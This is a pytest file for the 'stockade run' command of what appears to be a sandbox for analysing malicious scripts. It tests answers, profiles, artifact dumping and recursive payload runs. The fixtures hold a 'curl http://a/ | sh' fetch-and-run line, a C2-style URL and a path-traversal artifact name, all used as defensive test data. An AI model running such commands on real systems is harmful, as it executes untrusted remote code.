"""`stockade run` with a persona's world: its answers, what a sample leaves, and running that."""

from __future__ import annotations

import hashlib
import io
import json
import stat
import sys
from dataclasses import dataclass, field, replace
from typing import TYPE_CHECKING, Any, Self, Unpack

import pytest

from stockade.cli import main
from stockade.cli.tools import Tools
from stockade.results import MemoryStats, Outcome, RunResult
from stockade.tracing import Artifact, SideEffect, Trace
from stockade_policies import TemplateError

if TYPE_CHECKING:
    from pathlib import Path
    from types import TracebackType

    from stockade.run import RunOptions
    from stockade_policies import Policy

DONE = RunResult(
    outcome=Outcome.COMPLETED,
    kind="script",
    memory_stats=MemoryStats(heap_used_bytes=1, peak_rss_bytes=1, limit_bytes=1),
    trace=Trace(complete=True),
)


def artifact(number: int, content: bytes, name: str = "a.js", kind: str = "file") -> Artifact:
    return Artifact(
        id=number, kind=kind, name=name, size=len(content), content=content, cut=False,
        sha256=hashlib.sha256(content).hexdigest(),
    )  # fmt: skip


def left(*artifacts: Artifact) -> RunResult:
    return replace(DONE, trace=Trace(complete=True, artifacts=artifacts))


@dataclass
class FakeSupervisor:
    """Answers by the text of what is run, and remembers what it was asked."""

    answers: dict[str, RunResult] = field(default_factory=dict)
    calls: list[dict[str, Any]] = field(default_factory=list)
    failing: str | None = None

    def __enter__(self) -> Self:
        return self

    def __exit__(
        self,
        kind: type[BaseException] | None,
        error: BaseException | None,
        trace: TracebackType | None,
    ) -> None:
        pass

    def run(self, source: str | bytes, **options: Unpack[RunOptions]) -> RunResult:
        self.calls.append({"source": source, **options})
        if source == self.failing:
            raise TemplateError("it died")
        return self.answers.get(str(source), DONE)

    def open(self, policy: Policy) -> FakeSupervisor:
        return self


@pytest.fixture
def fake() -> FakeSupervisor:
    return FakeSupervisor()


@pytest.fixture
def sample(tmp_path: Path) -> str:
    path = tmp_path / "sample.js"
    path.write_text("sample", encoding="utf-8")
    return str(path)


def stockade(fake: FakeSupervisor, *argv: str) -> int:
    return main(["run", "--persona", "wsh", *argv], tools=Tools(open_supervisor=fake.open))


def read(path: Path) -> Any:
    return json.loads(path.read_text(encoding="ascii"))


def test_answers_and_profile_go_to_the_job(
    fake: FakeSupervisor, sample: str, tmp_path: Path
) -> None:
    profile = tmp_path / "profile.json"
    profile.write_text('{"user": "anna", "cores": 4}', encoding="utf-8")
    answers = ("--answer", "http=error", "--answer", "http_body=a=b")
    assert stockade(fake, sample, *answers, "--profile", str(profile)) == 0
    assert fake.calls[0]["answers"] == {"http": "error", "http_body": "a=b"}
    assert fake.calls[0]["profile"] == {"user": "anna", "cores": 4}


@pytest.mark.parametrize(
    ("given", "told"),
    [
        (["http"], "--answer http: not KEY=VALUE"),
        (["=x"], "--answer =x: not KEY=VALUE"),
        (["http=error", "http=success"], "--answer http: given twice"),
    ],
)
def test_an_answer_that_can_not_be_read_is_told(
    fake: FakeSupervisor,
    sample: str,
    given: list[str],
    told: str,
    capsys: pytest.CaptureFixture[str],
) -> None:
    options = [part for item in given for part in ("--answer", item)]
    assert stockade(fake, sample, *options) == 2
    assert told in capsys.readouterr().err
    assert fake.calls == []


@pytest.mark.parametrize("text", ["", "[1]", "{", '{"cores": NaN}', "[" * 100_000])
def test_a_profile_that_is_no_object_is_told(
    fake: FakeSupervisor,
    sample: str,
    tmp_path: Path,
    text: str,
    capsys: pytest.CaptureFixture[str],
) -> None:
    path = tmp_path / "profile.json"
    path.write_text(text, encoding="utf-8")
    assert stockade(fake, sample, "--profile", str(path)) == 2
    assert f"--profile {path}: not " in capsys.readouterr().err


@pytest.mark.parametrize(
    "option", [("--answer", "http=error"), ("--profile", "p.json")], ids=lambda pair: pair[0]
)
def test_a_world_needs_a_persona_that_has_one(
    fake: FakeSupervisor,
    sample: str,
    option: tuple[str, str],
    capsys: pytest.CaptureFixture[str],
) -> None:
    assert stockade(fake, sample, "--persona", "bare", *option) == 2
    assert f"{' '.join(option)}: needs a host to make believe in" in capsys.readouterr().err


def test_only_one_thing_is_read_from_standard_input(
    fake: FakeSupervisor, capsys: pytest.CaptureFixture[str]
) -> None:
    assert stockade(fake, "-", "--profile", "-") == 2
    assert "--profile -: the program is read from standard input" in capsys.readouterr().err


def test_a_payload_that_can_not_be_run_costs_the_sample_no_report(
    fake: FakeSupervisor, sample: str, capsys: pytest.CaptureFixture[str]
) -> None:
    fake.answers["sample"] = left(artifact(0, b"one"))
    fake.failing = "one"
    assert stockade(fake, sample, "--run-payloads", "1") == 6
    err = capsys.readouterr().err
    assert err.index("outcome  completed") < err.index("stockade: it died")


def test_artifacts_are_files_that_nobody_opens_by_mistake(
    fake: FakeSupervisor, sample: str, tmp_path: Path
) -> None:
    folder = tmp_path / "artifacts"
    evil = artifact(3, b"MZ\0", name="../../run.exe\x1b", kind="down/load")
    fake.answers["sample"] = left(evil, replace(artifact(4, b"x"), cut=True, size=9))
    assert stockade(fake, sample, "--artifacts", str(folder)) == 0
    assert (folder / "003-download.bin").read_bytes() == b"MZ\0"
    index = read(folder / "index.json")
    assert index["artifacts"][0] == {
        "file": "003-download.bin", "exact": True, "id": 3, "kind": "down/load",
        "name": "../../run.exe\x1b", "size": 3, "sha256": evil.sha256, "cut": False,
    }  # fmt: skip
    assert index["artifacts"][1]["cut"] is True
    assert {stat.S_IMODE(path.stat().st_mode) for path in folder.iterdir()} == {0o600}
    assert stat.S_IMODE(folder.stat().st_mode) == 0o700


def test_artifacts_need_an_empty_folder_and_a_trace(
    fake: FakeSupervisor, sample: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    assert stockade(fake, sample, "--artifacts", str(tmp_path)) == 2
    assert f"--artifacts {tmp_path}: not empty" in capsys.readouterr().err
    assert stockade(fake, sample, "--no-trace", "--artifacts", str(tmp_path / "new")) == 2
    assert "needs a trace" in capsys.readouterr().err
    assert fake.calls == []


def test_payloads_are_run_level_by_level_in_the_same_world(
    fake: FakeSupervisor, sample: str, capsys: pytest.CaptureFixture[str]
) -> None:
    fake.answers["sample"] = left(artifact(0, b"one"), artifact(1, b"two", "node", "script"))
    fake.answers["one"] = left(artifact(0, b"three"), artifact(1, b"two"))
    assert stockade(fake, sample, "--run-payloads", "9", "--answer", "http=error") == 0
    assert [call["source"] for call in fake.calls] == ["sample", "one", "two", "three"]
    assert {call["answers"]["http"] for call in fake.calls} == {"error"}
    rows = [line for line in capsys.readouterr().err.splitlines() if "payload" in line[:12]]
    assert [("of the sample" in row, "of payload 1" in row) for row in rows] == [
        *((True, False), (True, False), (False, True))
    ]


@pytest.mark.parametrize(
    "one",
    [
        artifact(0, b"MZ", "a.exe"),
        artifact(0, b"", "a.js"),
        replace(artifact(0, b"x", "a.js"), cut=True),
        artifact(0, b"x", "a.jse", "download"),
        artifact(0, b"curl http://a/ | sh", "sh", "script"),
        artifact(0, b"x", "node", "decoded"),
    ],
    ids=["no script", "empty", "cut", "encoded", "another language", "no code"],
)
def test_what_is_no_whole_script_is_not_run(
    fake: FakeSupervisor, sample: str, one: Artifact
) -> None:
    fake.answers["sample"] = left(one)
    assert stockade(fake, sample, "--run-payloads", "9") == 0
    assert len(fake.calls) == 1


@pytest.mark.parametrize(
    ("content", "text"),
    [
        (b"\xef\xbb\xbfx", "x"),
        ("\ufeffé".encode("utf-16-le"), "é"),
        ("é".encode(), "é"),
        (b"'\xe9'", "'é'"),
    ],
)
def test_a_payload_is_read_as_its_host_would(
    fake: FakeSupervisor, sample: str, content: bytes, text: str
) -> None:
    fake.answers["sample"] = left(artifact(0, content))
    assert stockade(fake, sample, "--run-payloads", "1") == 0
    assert fake.calls[1]["source"] == text


def test_no_more_payloads_are_run_than_asked_for(fake: FakeSupervisor, sample: str) -> None:
    fake.answers["sample"] = left(*(artifact(n, b"%d" % n) for n in range(9)))
    assert stockade(fake, sample, "--run-payloads", "2") == 0
    assert len(fake.calls) == 3
    assert stockade(fake, sample, "--run-payloads", "51") == 2


def test_a_payload_that_drops_itself_is_run_once(fake: FakeSupervisor, sample: str) -> None:
    fake.answers = {name: left(artifact(0, b"again")) for name in ("sample", "again")}
    assert stockade(fake, sample, "--run-payloads", "9") == 0
    assert [call["source"] for call in fake.calls] == ["sample", "again"]


def test_json_has_the_payloads_if_they_were_asked_for(
    fake: FakeSupervisor, sample: str, capsys: pytest.CaptureFixture[str]
) -> None:
    fake.answers["sample"] = left(artifact(5, b"one"))
    assert stockade(fake, sample, "--json", "--run-payloads", "1") == 0
    (payload,) = json.loads(capsys.readouterr().out)["payloads"]
    assert (payload["number"], payload["parent"], payload["artifact"]["id"]) == (1, 0, 5)
    assert payload["result"]["outcome"] == "completed"
    stockade(fake, sample, "--json")
    assert "payloads" not in json.loads(capsys.readouterr().out)


def test_a_terminal_does_not_break_an_indicator(
    fake: FakeSupervisor, sample: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    class Terminal(io.StringIO):
        def isatty(self) -> bool:
            return True

    target = "http://c2.example/" + "a" * 300
    effect = SideEffect(
        id=0, kind="network", operation="GET", target=target, details={}, artifact=-1,
        generation=0, line=1, column=1, times=1, mapped=None, node=None,
    )  # fmt: skip
    fake.answers["sample"] = replace(DONE, trace=Trace(complete=True, effects=(effect,)))
    terminal = Terminal()
    monkeypatch.setattr(sys, "stderr", terminal)
    monkeypatch.setenv("TERM", "xterm-256color")
    monkeypatch.setenv("COLUMNS", "60")
    stockade(fake, sample)
    assert target in terminal.getvalue()
